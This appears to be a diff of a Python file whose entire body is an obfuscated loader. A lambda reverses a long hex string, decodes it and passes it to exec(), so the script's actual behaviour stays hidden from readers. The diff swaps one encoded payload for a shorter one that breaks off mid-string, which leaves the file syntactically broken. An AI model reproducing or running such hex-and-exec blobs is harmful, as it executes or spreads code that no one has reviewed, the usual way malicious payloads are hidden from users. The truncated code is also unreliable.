@@ -1 +1 @@
-_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "5657e69647e6f6360202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0b616562726020202020202020202020202a0a3465647375657175627f5479687560266960202020202020202a09222e6c522825647962777e24757f6464737e23797370202020202020202a00202020202020202020202020202020202020202020202020202020202020202a0b61656272602020202020202020202020202020202a05657274502d302465647375657175627f54796875602020202020202020202020202020202a09222e216e6577676e65607028656c6f602e616b69647e6568696460247f624e6c5228247e696270702020202020202020202020202020202a0a347075727275647e694462716f6269756b402470756368756020202020202020202020202a0b616562726020202020202020202020202020202020202020202020202a05657274502d302465647375657175627f547968756020202020202020202020202020202020202020202020202a09222e257e656d60256b60296c61626d656b602e616460247f6260296279686b61676e656d4e6c5228247e6962707020202020202020202020202020202020202020202020202a0a32293932202d3d302e696f5275637570266960202020202020202020202020202020202020202a092820796274737e2928256e696c646165627e2e696464737e237973702d302e696f5275637570202020202020202020202020202020202020202a0a3473796c62702669602020202020202020202020202020202a0921302c2d5b502c2d5b502c2d5e696464737e2379737b582473656c65637e2473656c6563702d302f502c2f502c2473796c62702020202020202020202020202020202a0a3972747020202020202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a09282863757c666e24757f6464737e2379737020202020202020202020202a0922227c52202b20247875647f5e677f64647e657f636825647962777e24757f6464737e2379737020202020202020202020202a02202020202d74554355425e256c6974735b7b69647564602d7d65627b702a30286375627665627025747b616770216379635d775f4c4c45495e256c6974735b70202226602d30247875647f5e677f64647e657f636020202020202020202020202a0020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a39213d202c20302c23746e6f6365637f586375627665627825676e6162702e69602d656270227f6660202020202020202a05637c6166402d302465647375657175627f5479687560202020202020202a002020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a09222e2e2e21697e64757b6962756260256471646075702577676e657e656d602b65747e65702275647e65402e616b65647025716471602c2271657c656b602b65747e65702275647e65402e616b6564702e61646027293937202e616b6b6573716d4e6c5228247e69627070202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a09222d74554355425e256c6974735b7e2e616b64757a6e616c6964602e616571647e616d6560702c2e616d6160286963716d6021647f657b60216379635d7e454542574e256c6974735b722668247e6962707020202020202020202020202a0a35637c6560202020202020202a0a05657274502d30276e69646e65607f547e656d697160702020202020202020202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a09222d74554355425e256c6974735b7e21637c6570702e616b616e6577676e656d602c696371686275626024756b6160702e61696c65626d65605d7e454542574e256c6974735b722668247e696270702020202020202020202020202020202a0a35637c656020202020202020202020202a09222d75637e6f607375627f547e656d656c647475637b702a327f627275422668247e696270702020202020202020202020202020202a09222d74554355425e256c6974735b7e21637c6570702e61676e6564602e6162716971626d6560702e616b657b616c656d602c616761674d7445425e256c6974735b722668247e696270702020202020202020202020202020202a0a322353554343455352202d3120292223757471647372282475676e25637e6f607375627f547e656d656c6474756370227f6025637e6f607375627f547e656d656c6474756370247f6e6026696020202020202020202020202a092020202020202020202020202a022473727966622d346563757f547e657f6d61602020202020202020202020202020202a0c25637c61664d35647962777275667f6f5b6371602020202020202020202020202020202a0c222547414b4341405f59555242202020202020202020202020202020202a0c237d6564796f547e656d697160702020202020202020202020202020202a0c237e656b6f64702020202020202020202020202020202a0c29756b6f5960716e25636e6164737e6948647571402020202020202020202020202020202a0825636e616c61626f547e656d656c64747563702d3025637e6f607375627f547e656d656c647475637020202020202020202020202a002020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a066e6f636f5e656b6f647f57756e602d302e6f6964716d6279666e6f636f5e656b6f64702020202020202020202020202020202a05636962707f57756e602d302563696270702020202020202020202020202020202a066e6f636f5e656b6f647f57756e602d302d522e6f6964716d6279666e6f636f5e656b6f64722b5d503b537d6564796f547e656d697160702020202020202020202020202020202a05636962707f57756e602d302d5225636962707f5d656479622b5d503b537d6564796f547e656d697160702020202020202020202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a092e6f6964716d6279666e6f636f5e656b6f64702c222e6f6964716d6279666e6f636f5e656b6f6472282475676e2c69616475646f54656471646075702d30266e6f636f5e656b6f647f57756e602020202020202020202020202020202a092563696270702c22256369627072282475676e2d522e6f6964707f6f5567616b636160722b5c69616475646f54656471646075702d3025636962707f57756e602020202020202020202020202020202a0a3c69616475646f54656471646075702e6960222e6f6964707f6f5567616b6361607220246e61602c69616475646f546564716460757026696020202020202020202020202a056e6f6e402d302c69616475646f54656471646075702020202020202020202020202020202a0a3e6f69647075636875402470756368756020202020202020202020202a09256572745d347e656c6963702c25646f636f51647f6571702c2928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402c29756b6f5960716e25636e6164737e6948647571482567616b6361607f547567602d302c69616475646f54656471646075702020202020202020202020202020202a0a3972747020202020202020202020202a002020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a09222d74554355425e256c6974735b7e2e2e237964716d6f647f60276e616c65702e61696c65626d65607029616c657d656d402e2247402d76623e2a32676f51647f65717f5e696d6b702962716460276e6162757b6021647f657b60216379635d775f4c4c45495e256c6974735b722668247e6962707020202020202020202020202a0020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a35637168636275707f5465656e60266960202020202020202a0a05657274502d3025637168636275707f5465656e602020202020202020202020202020202a0a33756479726f546c6f686375627864702c3023756479726f576e696e69616d656270246e6160256e6f6e40247f6e6023796023756479726f576e696e69616d65627026696020202020202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a35637c6560202020202020202a05637c6166402d30276e69646e65607f547e656d697160702020202020202020202020202020202a0a33756479726f546c6f686375627864702d3e3023756479726f576e696e69616d656270246e6160256e6f6e40247f6e6023796023756479726f576e696e69616d65627026696020202020202020202020202a002020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a376e69646e65607f547e656d69716070266960202020202020202a05637c6166402d3025637168636275707f5465656e60202020202020202a002020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a002020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a0925353a222d2228247e69627070202020202020202a00202020202020202020202020202020202020202020202a09222247402d76623e2a32676f51647f65717f5e696d6b702a30202d74554355425e256c6974735b71647f6571502e696d402475635d7445425e256c6974735b7020222668247e69627070202020202020202a09222d7274737f577f6e6b702a302564716460755025747b61675020222668247e69627070202020202020202a092223552a3d452a38452024652d2d652d29552228256d6964766274737e2928277f6e6e256d696475647164602d302274737f577f6e60202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202a09222e21647f657b6021647164602e616b657d65647964602b6164696450202228247e6962707020202020202020202020202a0a35637c6560202020202020202a09222d74554355425e256c6974735b7d7274737f5c61647f647b7d7e454542574e256c6974735b702f202d74554355425e256c6974735b7d7274737f576e696e69616d65627b7d775f4c4c45495e256c6974735b702a3021647f657b40216379635020222668247e6962707020202020202020202020202a0923756479726f5c61647f647821647f65717f54716d627f66602d302274737f5c61647f647020202020202020202020202a0923756479726f576e696e69616d65627821647f65717f54716d627f66602d302274737f576e696e69616d65627020202020202020202020202a0a356e6f6e40247f6e6023796023756479726f576e696e69616d656270266960202020202020202a0020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a09222d74554355425e256c6974735b714f2e4d775f4c4c45495e256c6974735b702a3021637c657050216379635020222668247e6962707020202020202020202020202a0a35637c6560202020202020202a09222d74554355425e256c6974735b7d7274737f5f646c61637b7d775f4c4c45495e256c6974735b702a3021637c657050216379635020222668247e6962707020202020202020202020202a09216471646f55636e616c61626825636e616c61626f54716d627f666f502d302274737f5f646c61637020202020202020202020202a0a316471646f55636e616c616260266960202020202020202a056e6f6e402d30216471646f55636e616c61626020202020202020202020202a0a3e6f696470756368754024707563687560202020202020202a0929222e656b6f647f546962282475676e237e656b6f64702c29756b6f5960716e25636e6164737e69486475714825636e616c61626f547567602d30216471646f55636e616c61626020202020202020202020202a0a39727470202020202020202a056e6f6e402d30216471646f55636e616c616260202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202a09222d756d616e6f5e6f6964707f6b702a34756b6160502e616571647e616d65605021a39f90f226682275646165686f547e69627070202020202020202a09282e65656273637f5271656c6360202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202a0b6165627260202020202020202020202020202020202020202a09222c61647f6472282475676e247966656e65626f5e65637f6863602d3023756479726f5c61647f64702020202020202020202020202020202020202020202020202020202a0922276e696e69616d656272282475676e247966656e65626f5e65637f6863602d3023756479726f576e696e69616d6562702020202020202020202020202020202020202020202020202020202a0a347966656e65626f5e65637f68636026696020202020202020202020202020202020202020202020202a02602d30247966656e65626f5e65637f686360202020202020202020202020202020202020202020202020202020202020202a0c616674702d302c61667f5c61647f647f58716d60202020202020202020202020202020202020202020202020202020202020202a0a3c61667f5c61647f647f58716d602e302c61667470246e6160256e6f6e40247f6e602379602c616674702669602020202020202020202020202020202020202020202020202020202a09222c61647f6472282475676e22602d302c616674702020202020202020202020202020202020202020202020202020202a0a392d5b502c2223747966656e656262282475676e21702e69602260227f666020202020202020202020202020202020202020202020202a056e6f6e402d30247966656e65626f5e65637f68636020202020202020202020202020202020202020202020202a013d202d302c61667f5c61647f647f58716d6020202020202020202020202020202020202020202020202a0a30302d3d3023756479726f5c61647f6470227f60256e6f6e4023796023756479726f5c61647f6470227f60256e6f6e4023796023756479726f576e696e69616d656270266960202020202020202020202020202020202020202a0020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a047f64702d3023756479726f5c61647f647020202020202020202020202020202020202020202020202a0d6562702d3023756479726f576e696e69616d65627020202020202020202020202020202020202020202020202a0a356e6f6e40247f6e60237960247f6470246e6160256e6f6e40247f6e602379602d656270266960202020202020202020202020202020202020202a09222c61647f6472282475676e21702d30247f6470202020202020202020202020202020202020202a0922276e696e69616d656272282475676e21702d302d656270202020202020202020202020202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a39202020202020202020202020202020202a092225646f636f50757f627762282475676e276b607f54656473656c6563702d3d30292225646f636f50757f627762282475676e2170246e6160292225646f636f50757f627762282475676e276b607f54656473656c656370202020202020202020202020202020202020202a0820227f6025646f636f51647f6571702d3d30292225646f636f51647f657172282475676e21702669602020202020202020202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a3564716460757f5371647f6571702e69602170227f666020202020202020202020202a092d5b502c222371647f657172282475676e292d7b702c222164716462282475676e2564716460757f537562702d302564716460757f5371647f65717020202020202020202020202a0a322353554343455352202d3d30292223757471647372282475676e2564716460757f53756270246e61602924736964602c2564716460757f5375627825636e6164737e69637960266960202020202020202a056e6f6e402d3023756479726f5c61647f6470202020202020202a056e6f6e402d3023756479726f576e696e69616d656270202020202020202a056e6f6e402d302564716460757f5375627020202020202020202020202a0a3e6f696470756368754024707563687560202020202020202a092224535f4052202c29222e656b6f647f546962282475676e237e656b6f64702c2564716460757f54616f6c697160702c22237c69616475646d21647f65717f237567616b6361607f28367f29607162202c29756b6f5960716e25636e6164737e694864757148247375657175627f5960716f546e6563702d302564716460757f5375627020202020202020202020202a0d7020202020202020202020202a0222202a3224696f5275626d656d6f597c696d616662202020202020202020202020202020202a0c222e6562202a32276e616c62202020202020202020202020202020202a0c25637c6166402a3225637962707275647e656f537962202020202020202020202020202020202a0b702d302564716460757f54616f6c6971607020202020202020202020202a0a39727470202020202020202a0020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0b616562726020202020202020202020202a09222d74554355425e256c6974735b7e247f62602e616b69647e6568402e2169646563727564702b61646964702e656b6f645d7445425e256c6974735b722668247e6962707020202020202020202020202a0a337e656b6f6470247f6e60266960202020202020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f6470202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a05657e69647e6f636020202020202020202020202a0923746e6f6365637f58637562766562782075656c637e256d69647020202020202020202020202a09222d74554355425e256c6974735b7e2e2e2b69647564602d73746e6f6365637f586375627665627b702d616c6164602967616c6021626f636e656d402e24756e6275647e696029637b656e6f6b60216461602b616469645d7445425e256c6974735b7e6c522668247e6962707020202020202020202020202a09222d756d616e6f5e6f6964707f6b702a34756b6160502e616571647e616d65605021a39f90f226682275646165686f547e6962707020202020202020202020202a09282e65656273637f5271656c636020202020202020202020202a0a3924757f656d69645e2374737565717562702c227f6272754e6f696473656e6e6f634e2374737565717562782024707563687560202020202020202a09253d34757f656d6964702c222d6f636e256c676f6f676f2f2a337074747862282475676e23747375657175627020202020202020202020202a04737565717562702e616b657b616c656d602d657c656265637024756e6275647e696029637b656e6f6b602b6563402e2130232020202020202020202020202a0a39727470202020202020202a0a3565727450256c696867702020202a05637c6166402d30276e69646e65607f547e656d697160702020202a00202020202020202020202020202020202020202020202020202020202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a002020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a0925636e616c616268227473702e627574756270202020202020202a092c616678227473702e627574756270202020202020202020202020202020202020202a0a3e6f6964707563687540247075636875602020202020202020202020202020202a09222e22202c222c22282563616c6075627e222d7c2a3c61667b7226602e627574756270202020202020202020202020202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a397274702020202020202020202020202020202a0a392924716f6c66602c247e6968202c2c61667825636e6164737e6963796026696020202020202020202020202a0929756b682475676e25636e616c6162602d302c61667020202020202020202020202a0a3d5221647f657172202c2225657c616672202c22276e696e69616d656272202c2224796465627362202c22247e657f6d616f55636e616c616262202c2225636e616c6162622b502e696029756b60227f6660202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a02214f2e42202e62757475627020202020202020202020202a0a3924736964602c25636e616c61626825636e6164737e69637960247f6e60227f6025636e616c616260247f6e60266960202020202020202a00202020202020202a0a327473702e3d202924736964602a35636e616c61626825636e616c61626f54716d627f666f50266564602020202a0a0036302d3023746e6f6365637f58637562766562702020202a0020202020202020202020202020202020202020202020202020202020202020202020202a092923302a2a202432303138202a2022676f51647f65717f5e696d68247e69602d3023756479726f546c6f686375627864702020202a002020202020202020202020202020202020202020202020202020202020202020202020202a003e21302d3022676f51647f65717f5e696d6020202020202020202020202a09222d74554355425e256c6974735b7e2247402130247c6571666564602e616b616e6577676e656d402e24696c6166702b61646964702475707e694d775f4c4c45495e256c6974735b722668247e6962707020202020202020202020202a0a327f62727545657c61665024707563687560202020202020202a0921647f65717f5475707e696f527563757824716f6c66602d3022676f51647f65717f5e696d6020202020202020202020202a0a39727470202020202020202a0a31647f65717f5475707e696f52756375702669602020202a092820796274737e2922202e302d5130247c65716665646b502975726d2f647571602d657c6562656370292247482021647f657b602d657d696e696d602e616b6b6573716d42282475707e69602d3021647f65717f5475707e696f52756375702020202a003e21302d3022676f51647f65717f5e696d602020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a09222e6c5e2271657c656b602b65747e6570216a6163702e6160716b602275647e65402e616b6564702e616964657d656b6027293937202e616b6b6573716d4228247e696270702020202a09222e2e616b657b616c69646025637168636275707d2f647571602d657c6562656370292247402d616c6164682021647f657b602d657d696e696d602e616b65747e656e656d6024716071646021646e614228247e696270702020202a09222e2e616b60716475647021646e6140276e6169702c616d696e696d60276e61626d616028616771626029646021647f657b602163796370216b6964756b60237964716d6f647f60276e616c65702e61696c65626d6560702e616b657b616c656d602e616460216c616b627562602162716365637021647f657b60216379637021637b6962756d656d602e616b6160247f624228247e696270702020202a0929256d616e6f5e6f6964707f6824716d627f666e222e272d703b772024756b6160702e616571647e616d65607029616c657d656d4e6c5228247e696270702020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a0d5d702020202a0c2e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c20302a322871647220202020202020202a0c256d616e6f5e6f6964707f602a32256d616e6f5d6564796220202020202020202a0c2563696270702a3225636962707f5d6564796220202020202020202a0c2222202a32256079747f547365746f62707220202020202020202a0c25646f636f51647f6571702a3225646f636f5d6564796220202020202020202a0b7b502d30237d6564796f547e656d697160702020202a00202020202020202020202020202020202020202020202020202020202020202a092222202c222e6f6964716d6279666e6f636f5e656b6f6472282475676e2c6961647564602d302e6f6964716d6279666e6f636f5e656b6f64702020202a092222202c22256d616e62282475676e2e6f6964707f6f5567616b636160702d30256d616e6f5e6f6964707f602020202a0920302c22256369627072282475676e2e6f6964707f6f5567616b636160702d302563696270702020202a092d7b702c222e6f6964707f6f5567616b63616072282475676e2c6961647564602d302e6f6964707f6f5567616b636160702020202a0e62757475627020202020202020202020202a092825637571607020202020202020202020202a09222d74554355425e256c6974735b7e24756b6160702c6961647564602c69626d61676e656d602c616761674d7445425e256c6974735b722668247e6962707020202020202020202020202a0a3c696164756460247f6e60266960202020202020202a09256572745d347e656c6963702c25646f636f51647f6571702c2928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402c29756b6f5960716e25636e6164737e6948647571482567616b6361607f547567602d302c696164756460202020202020202a0a3c696164756460247f6e602669602020202a0d522c6961647564622b576b607f54656473656c6563702d302c6961647564602020202a002020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0d5225646f636f51647f6571722b576b607f54656473656c6563702d3025646f636f51647f6571702020202a0a0e627574756270202020202020202a0928256375716070202020202020202a09222d74554355425e256c6974735b7e24696c6166702b61646964702e6168696c69605d7445425e256c6974735b722668247e69627070202020202020202a0a376b607f54656473656c656370247f6e602669602020202a0b616562726020202020202020202020202a076b60702d30276b607f54656473656c65637020202020202020202020202a0a3563696f6863602d3d30292d522875646e69622b576b607822747370266960202020202020202a0a337567616b636160702e6960276b6070227f66602020202a056e6f6e402d30276b607f54656473656c6563702020202a0e627574756270202020202020202a0a32293932202d3d302563696f6863602669602020202a092820796274737e2922202e302571647e61607964602b65747e657024756b616070227f6d6f6e6028696c696052282475707e69602d302563696f6863602020202a0922216d61647570257e656d60256b602271657c656b402d74554355425e256c6974735b7d59393b5d7e4149534e256c6974735b722668247e696270702020202a0925353a222d2228247e69627070202020202020202a09222d7274737f5c61647f647b702f202d7274737f576e696e69616d65627b702a3d74554355425e256c6974735b7d7d57256d616e672b547966656e65626b7d775f4c4c45495e256c6974735b702d202020222668247e696270702020202020202020202020202020202a092d522c61647f64722b547966656e65626821647f65717f54716d627f66602d302274737f5c61647f64702020202020202020202020202020202a092d52276e696e69616d6562722b547966656e65626821647f65717f54716d627f66602d302274737f576e696e69616d6562702020202020202020202020202020202a0a322144514442202d3d302d52256079747f51647164622b547966656e65626026696020202020202020202020202a0a3d5223747966656e6562622b576b60702e6960247966656e656260227f6660202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0922292d7d5725646f636f51647f6571772b576b607b702a35646f634021647f657158202d7d57256d616e672b576b607b7d74554355425e256c6974735b702d5d7d572875646e69672b576b607b7b5d7e4149534e256c6974735b722668247e69627070202020202020202a0a337567616b636160702e6960276b6070227f66602020202a0922216971635024756b6160502271647661644026a39f90f2282275646165686f547e696270702020202a09282e65656273637f5271656c63602020202a002020202020202020202020202020202020202020202020202020202a0e627574756270202020202020202a0a337567616b63616070247f6e602669602020202a0928237567616b6361607f597d6f58636475666f502d30237567616b636160702020202a0020202020202020202020202020202020202020202020202a0a0e627574756270202020202020202a0928256375716070202020202020202a09222e257e656d60256b60296c61626d656b402e2e616b6c61647162696460247f624228247e69627070202020202020202a0a322972202d31202d6279666e6f63602669602020202a09282275677f6c6e292820796274737e2922202e30292e6f2978202f376e6162716b656370247f62602e616b6e616c616a42282475707e69602d302d6279666e6f63602020202a0020202020202020202020202020202020202020202a0928276e696e65607f6f547e6962707f502020202a0a0e627574756270202020202020202a0928256375716070202020202020202a09222d74554355425e256c6974735b7e216d61647570257e656d6029657c616c656d60257c6578616460286962656c627564702e69676f6c602e616b616c6963502e2e69676f6c602d657c65626021646e614d7445425e256c6974735b722668247e69627070202020202020202a0a327563757f55667964736160247f6e602669602020202a0928227563757f5566796473616f5475676e25636e6164737e6948647571402d30227563757f556679647361602020202a022222202020202a0e2963716b6574656024756b6160702b65747e65702975726d2f64757160247f62602375637f62707029616c657d656d402020202a022222202020202a0a3928247f626574656f5e6572702665646a0a0925353a222d22202b20222e6c5228247e696270702020202a002020202020202020202020202020202020202020202921303e20382075656c637e256d696470202020202020202a09282863757c666e24757f6464737e23797370202020202020202a09222d74554355425e256c6974735b7d78636b7d727f6c6f636b72266825647962777e24757f6464737e23797370202020202020202a0d5923727f6c6f63682e656c602520296b53727f6c6f63602d30227f6c6f6360202020202020202a0a3925647f65717825647162756d657e65602e69602863602c2960227f66602020202a0d5e454542574e256c697473502c275f4c4c45495e256c697473502c21445e4547414d4e256c697473502c2e4149534e256c6974735b502d3023727f6c6f63602020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a022f899f90f0235955574024514c4f4843502140555c402e41474e414a402c2e49455b414c40255d414b40274e4149502e4550514051402f899f90f2202d3025647f6571702020202a0020202020202020202020202020202020202020202020202020202020202020202a09222d75353a272d272b722668247e696270702020202a09222d74554355425e256c6974735b746e657f62776b63616260296271646023757071686964602b6164696470216d616c6563702669647b6160207164756470247f62602e257d616b60224453502964602c6c6164737e6960257164716028757d62756450216966702e616b616e65774d775f4c4c45495e256c6974735b722668247e696270702020202a09222d74554355425e256c6974735b712b616a696260216271636563702e616b616e65774d7e454542574e256c6974735b722668247e696270702020202a0020202020202020202020202020202020202029222d75353a272d272b722668247e696270702020202a09222d74554355425e256c6974735b7975726562502f647571402b65747e65702d657d696e696d4021647f6571502163796370247563502e223d775f4c4c45495e256c6974735b722668247e696270702020202a09222d74554355425e256c6974735b716964656372756470276e616970257d616b6024756b6160702473796c6021646160702975726562702e616b6160257d616b60276e61697024756b61607028696c6960502e213d775f4c4c45495e256c6974735b722668247e696270702020202a09222d74554355425e256c6974735b7a39616b616070216271634d775f4c4c45495e256c6974735b722668247e696270702020202a09222d74554355425e256c6974735b77b5af90f024554b4140502955524542502f445551402b45545e45502e414b414e4557494440294e49402c4f4f445027b5af90fd775f4c4c45495e256c6974735b722668247e696270702020202a09222694af90f02943514b45544540295552402f44555140245f42402694af90f2282275646165686f547e696270702020202a0020202020202020202020202a09282e65656273637f5271656c63602020202a0a0a3928276e696e65607f6f547e6962707f502665646a0a037567616b636160702e6275747562702020202a0a01302d3b2028746960202020202020202a092d70202020202020202a0c6961647564602a322c6961647564622020202020202020202020202a0c216471646f53747966656e6562602a3223747966656e6562622020202020202020202020202a0c256d616e602a32256d616e622020202020202020202020202a0c25646f636f50757f6277602a3225646f636f50757f6277622020202020202020202020202a0c25646f636f51647f6571702a3225646f636f51647f6571722020202020202020202020202a0c287469602a322875646e69622020202020202020202020202a0b78246e656070716e237567616b63616070202020202020202a092d7020202020202020202020202a0920302c222c61647f6472282475676e247966656e6562602a322c61647f6472202020202020202020202020202020202a0c2920302c22276e696e69616d656272282475676e247966656e6562602a32276e696e69616d656272202020202020202020202020202020202a0c292222202c22256079747f5164716462282475676e247966656e6562602a32256079747f5164716462202020202020202020202020202020202a0c292222202c22256d616e62282475676e247966656e6562602a32256d616e62202020202020202020202020202020202a0b78246e656070716e216471646f53747966656e65626020202020202020202020202a0a392d5b502c2223747966656e656262282475676e21647f6571702e6960247966656e656260227f6660202020202020202a0d5b502d30216471646f53747966656e656260202020202020202a0020202020202020202020202020202020202020202020202020202020202a09256d616e6f5c616964796e69602c22256d616e62282475676e2d522e6f6964707f6f5567616b636160722b5c6961647564602d30256d616e6020202020202020202020202a0a3c6961647564602e6960222e6f6964707f6f5567616b6361607220246e61602c696164756460266960202020202020202a056d616e6f5c616964796e69602d30256d616e60202020202020202a09256572745d347e656c6963702c25646f636f51647f6571702c237e656b6f64702c29756b6f596071682567616b6361607f547567602d302c696164756460202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a092222202c22256d616e62282475676e21647f6571702d30256d616e6f5c616964796e6960202020202020202a092222202c2225646f636f50757f627762282475676e21647f6571702d3025646f636f50757f627760202020202020202a092225646f636f51647f657172282475676e21647f6571702d3025646f636f51647f657170202020202020202a0a3371647f6571702e696021647f657170227f66602020202a01302d30287469602020202a0d5b502d30237567616b636160702020202a092d5b502c222371647f657172282475676e2d5221647164622b537562702d302371647f6571702020202a0a0d5b502e627574756270202020202020202a0928256375716070202020202020202a09222d7375627b702a3e6f60737562522668247e69627070202020202020202a09222d74554355425e256c6974735b7e24756b6160702c69626d61676e656d602c616761674d7445425e256c6974735b722668247e69627070202020202020202a0a39222353554343455352202d3d30292223757471647372282475676e23756270246e61602924736964602c2375627825636e6164737e6963796820247f6e602669602020202a092224535f4052202c2e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e216971637024756b61607021647164602c69626d61676e656d4228247e696270702020202a0d702020202a0222202a3224696f5275626d656d6f597c696d61666220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c697160702020202a02237c69616475646d21647f65717f237567616b6361607f28367f29607162202d3028647160702020202a0020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a09222e656b6f647f546962282475676e237e656b6f64702d302e656b6f647f5469602020202a0a0d5b502e627574756270202020202020202a0928256375716070202020202020202a09222d74554355425e256c6974735b7e257c6578616460286962656c627564702e69676f6c602e616b616c6963502e2669647b61602e657b6160216461602b616469645d7445425e256c6974735b722668247e69627070202020202020202a0a337e656b6f6470247f6e602669602020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f64702020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a0a0a3928237567616b6361607f597d6f58636475666f502665646a0a05636e616c61626f5475676024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a00202020202020202020202020202020202020202020202020202020202020202020202020202a05636e616c61626f547e656d656c647475637024727f607d696025636e616c61626e247e65696c636e207071602d6f62766a002020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a02367f547e656d69716079647c657d6f547e656d656c647475637024727f607d696024756c6c6167756e247e65696c636e207071602d6f62766a01647f65717f54716d627f666024727f607d69602c6964757e207071602d6f62766a05636e6164737e69486475714024727f607d6960286475716e256369667275637e207071602d6f62766a0567616b6361607f547567602c247375657175627f5960716f546e65637024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a0563757160702c256c697473502c2275646165686f547e696270702c2e65656273637f5271656c636024727f607d69602c6964757e23757e656d6e207071602d6f62766a0a056d6964756471646024727f607d6960256d696475647164602d6f62766a03747375657175627024727f607d696a0473656c65637024727f607d696a0379737024727f607d696a056d69647024727f607d696a0" ));
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a0b616562726020202020202020202020202a0a3465647375657175627f5479687560266960202020202020202a09222e6c522825647962777e24757f6464737e23797370202020202020202a00202020202020202020202020202020202020202020202020202020202020202a0b61656272602020202020202020202020202020202a05657274502d302465647375657175627f54796875602020202020202020202020202020202a09222e216e6577676e65607028656c6f602e616b69647e6568696460247f624e6c5228247e696270702020202020202020202020202020202a0a347075727275647e694462716f6269756b402470756368756020202020202020202020202a0b6165627260202020202020202020202020202020202020202a05657274502d302465647375657175627f547968756020202020202020202020202020202020202020202020202a09222e257e656d60256b60296c61626d656b602e616460247f6260296279686b61676e656d4e6c5228247e6962707020202020202020202020202020202020202020202020202a0a32293932202d3d302e696f5275637570266960202020202020202020202020202020202020202a092820796274737e2928256e696c646165627e2e696464737e237973702d302e696f5275637570202020202020202020202020202020202020202a0a3473796c62702669602020202020202020202020202020202a0921302c2d5b502c2d5b502c2d5e696464737e2379737b582473656c65637e2473656c6563702d302f502c2f502c2473796c62702020202020202020202020202020202a0a3972747020202020202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a09282863757c666e24757f6464737e2379737020202020202020202020202a0922227c52202b20247875647f5e677f64647e657f636825647962777e24757f6464737e2379737020202020202020202020202a02202020202d74554355425e256c6974735b7b69647564602d7d65627b702a30286375627665627025747b616770216379635d775f4c4c45495e256c6974735b70202226602d30247875647f5e677f64647e657f636020202020202020202020202a0020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a39213d202c20302c292c61667275647e69682c6965636e2864716d6825676e6162702e69602d656270227f6660202020202020202a05637c6166402d302465647375657175627f5479687560202020202020202a0020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020